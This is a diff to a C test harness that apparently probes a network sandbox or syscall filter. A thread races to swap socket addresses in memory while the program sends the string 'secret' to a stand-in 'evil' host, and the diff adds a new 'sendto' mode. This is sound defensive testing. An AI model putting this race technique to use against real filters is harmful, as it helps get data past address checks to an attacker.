@@ -31,7 +31,7 @@ static void flip_memory(const void *one, const void *other, size_t length)
 
 static void *flip(void *unused)
 {
-    if (!strcmp(how, "address"))
+    if (!strcmp(how, "address") || !strcmp(how, "sendto"))
         flip_memory(&good, &evil, sizeof good.in);
     else if (!strcmp(how, "family") || !strcmp(how, "unix"))
         flip_memory(&unix_address, &evil, length);
@@ -55,10 +55,11 @@ int main(int argc, char **argv)
     int attempts = argc > 2 ? atoi(argv[2]) : 0, datagrams = !strcmp(argv[1], "datagram");
     int flips_descriptors = datagrams || !strcmp(argv[1], "descriptor");
     int unix_sockets = !strcmp(argv[1], "unix"), listener = -1, connected = 0;
+    int sends = !strcmp(argv[1], "sendto");
     pthread_t thread;
 
     how = argv[1];
-    fill(&good.in, "203.0.113.7");
+    fill(&good.in, sends ? "127.0.0.1" : "203.0.113.7");
     fill(&evil.in, "198.51.100.66");
     unix_address.un.sun_family = AF_UNIX;
     strcpy(unix_address.un.sun_path, "/nowhere/at/all");
@@ -75,7 +76,13 @@ int main(int argc, char **argv)
     sources[1] = socket(AF_INET, datagrams ? SOCK_DGRAM : SOCK_STREAM, 0);
     pthread_create(&thread, NULL, flip, NULL);
     for (int i = 0; i < attempts; i++) {
-        if (datagrams) {
+        if (sends) {
+            int fd = socket(AF_INET, SOCK_DGRAM, 0);
+            sendto(fd, "secret", 6, MSG_NOSIGNAL | MSG_DONTWAIT, &address.any, length);
+            connect(fd, &address.any, length);
+            send(fd, "secret", 6, MSG_NOSIGNAL | MSG_DONTWAIT);
+            close(fd);
+        } else if (datagrams) {
             sendto(target, "secret", 6, MSG_NOSIGNAL | MSG_DONTWAIT, &evil.any, sizeof evil.in);
         } else if (flips_descriptors) {
             connect(target, &evil.any, sizeof evil.in);
